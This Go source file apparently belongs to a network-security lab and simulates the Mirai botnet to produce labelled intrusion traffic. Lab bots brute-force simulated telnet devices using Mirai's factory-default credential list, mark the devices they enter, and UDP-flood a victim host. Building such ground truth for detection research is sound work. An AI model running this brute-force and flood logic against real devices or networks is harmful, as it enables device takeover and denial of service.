package intrusion

import (
	"bufio"
	"context"
	"io"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/platelet-sdn/platelet/lab/agent"
)

const (
	// floodPort is where the bots' flood goes.
	floodPort = 9999
	// floodRate is what all bots send together, in packets per second, for
	// floodTime; floodSize is the payload in octets.
	floodRate = 2000
	floodTime = 2 * time.Second
	floodSize = 512
	// miraiSpread is how long the bots gather before they flood.
	miraiSpread = 5 * time.Second
	// triesPerCall is how many logins a device allows on a connection.
	triesPerCall = 3
	// prompt is what a device says to who is in.
	prompt = "$ "
)

// credential is a user's name and password.
type credential struct{ user, word string }

// defaults are what devices are delivered with: some of the list by which
// Mirai was known (Antonakakis et al., Understanding the Mirai Botnet,
// USENIX Security 2017, table 5).
func defaults() []credential {
	return []credential{
		{"root", "root"}, {"admin", "admin"}, {"root", "12345"}, {"root", "password"}, {"guest", "guest"}, {"user", "user"},
		{"admin", "1234"}, {"support", "support"}, {"root", "default"}, {"admin", "password"}, {"root", "admin"}, {"tech", "tech"},
	}
}

// Mirai lets the attackers gather bots as Mirai did: each looks for telnet on
// port 23, one time in ten on 2323, at random addresses of its subnet, at the
// stage's rate per bot, tries the passwords that devices are delivered with,
// and leaves the mark. After some seconds all bots flood the victim with UDP,
// at a modest rate.
func Mirai(ctx context.Context, s *Stage) error {
	victim, err := s.open(s.Victim)
	if err != nil {
		return err
	}
	var own servers
	defer own.close()
	seed := s.Rand.Uint64()
	// Whom the bots are set on is none of them.
	s.Hosts = slices.DeleteFunc(slices.Clone(s.Hosts), func(node string) bool { return node == s.Victim })
	gathering, cancel := context.WithTimeout(ctx, miraiSpread)
	defer cancel()
	o, err := s.newOutbreak(strain{
		ports: []uint16{23, 2323},
		greet: logInAndMark,
		serve: func(o *outbreak, host *bot, c net.Conn) { host.telnet(gathering, o, c, seed) },
	}, &own, seed)
	if err != nil {
		return err
	}
	if err := ended(gathering, o.run(gathering)); err != nil {
		return err
	}
	return ended(ctx, o.flood(ctx, at(victim, floodPort)))
}

// telnet is a device's login. Its password is one of those it may have been
// delivered with.
func (b *bot) telnet(ctx context.Context, o *outbreak, c net.Conn, seed uint64) {
	list := defaults()
	octets := b.station.Addr().As4()
	right := list[(seed+uint64(octets[3]))%uint64(len(list))]
	r := bufio.NewReader(c)
	// IAC DO TERMINAL-TYPE, IAC WILL ECHO, as busybox's telnetd begins.
	if _, err := c.Write([]byte{255, 253, 24, 255, 251, 1}); err != nil {
		return
	}
	for range triesPerCall {
		user, err := ask(c, r, "login: ")
		if err != nil {
			return
		}
		word, err := ask(c, r, "Password: ")
		if err != nil {
			return
		}
		if (credential{user, word}) == right {
			if _, err := io.WriteString(c, prompt); err == nil {
				b.beMarked(ctx, o, c, r)
			}
			return
		}
		if _, err := io.WriteString(c, "Login incorrect\r\n"); err != nil {
			return
		}
	}
}

func ask(c net.Conn, r *bufio.Reader, question string) (string, error) {
	if _, err := io.WriteString(c, question); err != nil {
		return "", err
	}
	return readLine(r)
}

// logInAndMark tries the passwords in turn, as many per connection as the
// device allows.
func logInAndMark(ctx context.Context, o *outbreak, b *bot, c net.Conn) string {
	list := defaults()
	to := addrPort(c.RemoteAddr())
	for i := 0; i < len(list); i += triesPerCall {
		if i > 0 {
			var err error
			if c, err = b.station.Dial(ctx, "tcp", agentAny, to); err != nil {
				return noAnswer
			}
			defer c.Close()
		}
		_ = c.SetDeadline(soon())
		r := bufio.NewReader(c)
		for _, try := range list[i:min(i+triesPerCall, len(list))] {
			in, err := logIn(c, r, try)
			if err != nil {
				return noAnswer
			}
			o.Record(agent.Action{
				Agent: b.station.Node, Action: "login", From: b.station.Addr(), To: to.Addr(), Proto: "tcp", Port: to.Port(),
				Note: try.user + ": " + map[bool]string{true: accepted, false: rejected}[in],
			})
			if in {
				return b.mark(c, r)
			}
		}
	}
	return "no password fits"
}

// logIn tries one password.
func logIn(c net.Conn, r *bufio.Reader, try credential) (bool, error) {
	for _, step := range []struct{ until, say string }{{"login: ", try.user}, {"Password: ", try.word}} {
		if _, err := readUntil(r, step.until); err != nil {
			return false, err
		}
		if _, err := io.WriteString(c, step.say+"\r\n"); err != nil {
			return false, err
		}
	}
	said, err := readUntil(r, prompt, "incorrect\r\n")
	return strings.HasSuffix(said, prompt), err
}

// readUntil reads until one of the texts has come.
func readUntil(r *bufio.Reader, ends ...string) (string, error) {
	var out strings.Builder
	for out.Len() < lineLimit {
		c, err := r.ReadByte()
		if err != nil {
			return "", err
		}
		out.WriteByte(c)
		for _, end := range ends {
			if strings.HasSuffix(out.String(), end) {
				return out.String(), nil
			}
		}
	}
	return "", bufio.ErrTooLong
}

// flood lets all bots send to an address and port for some time.
func (o *outbreak) flood(ctx context.Context, to netip.AddrPort) error {
	ctx, cancel := context.WithTimeout(ctx, floodTime)
	defer cancel()
	bots := o.bots()
	var all sync.WaitGroup
	for _, b := range bots {
		all.Go(func() { o.floodFrom(ctx, b, to, floodRate/float64(len(bots))) })
	}
	all.Wait()
	return o.spent
}

// floodFrom is one bot's part: a line of ground truth per tenth of a second.
func (o *outbreak) floodFrom(ctx context.Context, b *bot, to netip.AddrPort, rate float64) {
	c, err := b.station.Dial(ctx, "udp", agentAny, to)
	if err != nil {
		return
	}
	defer c.Close()
	payload := make([]byte, floodSize)
	const slice = 100 * time.Millisecond
	a := agent.Action{Agent: b.station.Node, Action: "flood", From: b.station.Addr(), To: to.Addr(), Proto: "udp", Port: to.Port()}
	say := func() {
		if a.Packets > 0 {
			a.Seconds, a.Bytes = time.Since(a.Time).Seconds(), a.Packets*floodSize
			o.Record(a)
		}
		a.Time, a.Packets = time.Now(), 0
	}
	say()
	defer say()
	clock := newPace(rate)
	for clock.wait(ctx) == nil && o.may() {
		if _, err := c.Write(payload); err == nil { // refused: nobody listens, which a flood does not mind
			a.Packets++
		}
		if time.Since(a.Time) >= slice {
			say()
		}
	}
}
